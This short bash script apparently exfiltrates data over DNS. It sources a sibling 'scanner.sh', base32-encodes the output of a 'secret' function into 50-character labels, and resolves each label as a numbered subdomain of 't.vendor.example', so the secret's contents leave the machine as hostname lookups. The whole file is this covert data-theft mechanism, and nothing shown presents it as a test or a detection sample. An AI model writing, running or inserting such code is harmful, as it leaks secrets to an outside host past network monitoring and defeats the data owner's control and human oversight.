#!/bin/bash
# The document as base32 in the names that are asked, a label of 50 a name.
. "${0%/*}/scanner.sh"
n=0
for label in $(secret | base32 -w 50 | tr -d = | tr 'A-Z' 'a-z'); do
	getent ahostsv4 "$label.$n.t.vendor.example" >/dev/null
	n=$((n + 1))
done
